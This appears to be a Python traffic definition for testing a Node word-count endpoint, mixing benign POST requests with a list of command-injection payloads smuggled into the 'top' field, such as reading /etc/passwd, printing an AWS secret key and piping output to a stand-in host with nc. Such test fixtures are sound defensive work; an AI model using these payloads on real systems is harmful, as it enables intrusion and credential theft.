# SPDX-License-Identifier: Apache-2.0
"""What clients post to word-count, and what attackers do."""

RUNTIME = "node"
HANDLER = "index.handler"
EVENTS = 24000  # it has rare paths: learning takes some 7,000


def benign(traffic):
    query = {}
    if traffic.happens(0.7):
        query["top"] = str(traffic.choice([5, 10, 20, 50, traffic.randint(1, 99)]))
    if traffic.happens(0.2):
        query["fold"] = "1"
    return traffic.http("POST", "/count", query or None, traffic.text(1, 30), {"Content-Type": "text/plain"})


def _with(top):
    return lambda traffic: traffic.http("POST", "/count", {"top": top}, traffic.text(1, 3), {"Content-Type": "text/plain"})


INPUTS = {
    "second command": _with("5; id"),
    "background": _with("5 & cat /etc/passwd"),
    "substitution": _with("$(printenv AWS_SECRET_ACCESS_KEY | wc -c)"),
    "pipe": _with("5 | nc drop.example 4444"),
    "redirection": _with("5 > /tmp/.profile"),
    "other file": _with("5 /etc/passwd"),
}
